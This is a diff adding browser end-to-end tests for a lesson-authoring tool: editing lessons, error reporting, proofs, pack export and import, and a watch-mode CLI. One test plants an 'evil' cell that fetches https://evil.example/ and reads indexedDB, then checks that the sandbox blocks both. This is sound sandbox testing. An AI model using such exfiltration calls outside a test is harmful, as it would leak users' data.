@@ -1,0 +1,119 @@
+// An instructor writes a lesson: in the page, and in an editor beside it.
+import assert from 'node:assert/strict'
+import { spawn } from 'node:child_process'
+import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+
+const root = join(import.meta.dirname, '..')
+
+async function begin(page, url) {
+  await page.goto(url)
+  await page.evaluate(() => window.logbook.ready)
+  await page.locator('.lesson-menu > button').click()
+  await page.getByRole('button', { name: 'Write lessons' }).click()
+  await page.locator('.author').waitFor()
+}
+
+async function proof(page) {
+  await page.getByRole('tab', { name: 'Proof' }).click()
+  await page.getByRole('button', { name: 'Prove it' }).click()
+  await page.locator('.proof [role=status]').waitFor({ timeout: 60_000 })
+  return page.locator('.proof').innerText()
+}
+
+export const tests = {
+  async 'a new lesson in the page: mistakes with their lines, preview, proof in the sandbox, export'({ page, url }) {
+    await begin(page, url)
+    assert.match(await proof(page), /step 1 is needed\n+All is proved/)
+
+    await page.getByRole('tab', { name: 'Preview' }).click()
+    await page.locator('.goals li').first().click()
+    await page.locator('.author .monaco-editor').waitFor()
+    await page.keyboard.press('End')
+    await page.keyboard.type('x')
+    const fault = page.locator('.source-problems button').first()
+    await fault.filter({ hasText: 'unknown fence: checkx (did you mean check?)' }).waitFor()
+    assert.match(await proof(page), /unknown fence: checkx/)
+
+    await page.locator('.proof li button').first().click()
+    await page.keyboard.press('End')
+    await page.keyboard.press('Backspace')
+    await page.locator('.source-problems .ok').waitFor()
+    await page.getByRole('tab', { name: 'Preview' }).click()
+    await page.locator('.goals li').waitFor()
+
+    page.on('dialog', (dialog) => dialog.accept('my-course'))
+    const download = page.waitForEvent('download')
+    await page.getByRole('button', { name: 'Export the pack' }).click()
+    assert.equal((await download).suggestedFilename(), 'my-course.zip')
+    const chooser = page.waitForEvent('filechooser')
+    await page.getByRole('button', { name: 'Stop writing' }).click()
+    await page.locator('.lesson-menu > button').click()
+    await page.getByRole('button', { name: 'Open a pack' }).click()
+    await page.getByRole('button', { name: 'A file' }).click()
+    await (await chooser).setFiles(await (await download).path())
+    await page.getByRole('heading', { name: 'The one thing that surprises' }).waitFor()
+  },
+
+  async 'a lesson that would do harm while it is proved reaches neither network nor storage'({ page, url }) {
+    const asked = []
+    page.on('request', (request) => asked.push(request.url()))
+    await begin(page, url)
+    const source = readFileSync(join(root, 'lessons/en/first-events/01-quickstart.md'), 'utf8')
+    const cell = [
+      '```ts cell=evil',
+      "const said = await fetch('https://evil.example/').then(() => 'sent', () => 'refused')",
+      "const kept = await Promise.resolve().then(() => indexedDB.databases()).then(() => 'read', () => 'refused')",
+      "if (said !== 'refused' || kept !== 'refused') throw new Error(`got out: ${said} ${kept}`)",
+      '```',
+    ].join('\n')
+    const evil = source
+      .replace('## What you saw', `${cell}\n\n## What you saw`)
+      .replace('```solution\n', '```solution\n@run evil\n')
+      .replaceAll(/\[([^\]]*)\]\([^)]*\.md\)/g, '$1')
+    await page.evaluate(
+      (text) => localStorage.setItem('logbook.draft', JSON.stringify([['en/intro/01-evil.md', text]])),
+      evil,
+    )
+    await page.reload()
+    await begin(page, url)
+    const said = await proof(page)
+    assert.doesNotMatch(said, /got out/)
+    assert.match(said, /every goal is met without it: @run evil/)
+    assert.deepEqual(
+      asked.filter((address) => address.includes('evil.example')),
+      [],
+    )
+  },
+
+  async 'npm run lessons -- --watch: the page shows what an editor saved, and its proof'({ page, folder }) {
+    const pack = mkdtempSync(join(tmpdir(), 'logbook-watch-'))
+    mkdirSync(join(pack, 'en/intro'), { recursive: true })
+    const path = join(pack, 'en/intro/01-quickstart.md')
+    cpSync(join(root, 'lessons/en/first-events/01-quickstart.md'), path)
+    writeFileSync(join(pack, 'pack.yaml'), 'pack: watched\ntitle: Watched\nlessons: [intro/01-quickstart]\n')
+    const child = spawn(process.execPath, ['--import', 'tsx', 'src/lessons/lessons-cli.ts', '--watch', path], {
+      cwd: root,
+      env: { ...process.env, DIST: folder },
+    })
+    try {
+      const address = await new Promise((resolve, reject) => {
+        child.stdout.on('data', (data) => {
+          const found = /http:\S+/.exec(String(data))
+          if (found) resolve(found[0])
+        })
+        child.on('exit', (status) => reject(new Error(`ended with ${status}`)))
+      })
+      await page.goto(address)
+      await page.getByRole('heading', { name: 'Write and read your first events' }).waitFor()
+      writeFileSync(path, readFileSync(path, 'utf8').replace(/^title: .*$/m, 'title: Saved just now'))
+      await page.getByRole('heading', { name: 'Saved just now' }).waitFor()
+      await page.getByRole('tab', { name: 'Proof' }).click()
+      await page.locator('.proof li').filter({ hasText: 'the solution meets them' }).waitFor({ timeout: 60_000 })
+    } finally {
+      child.kill()
+      rmSync(pack, { recursive: true })
+    }
+  },
+}
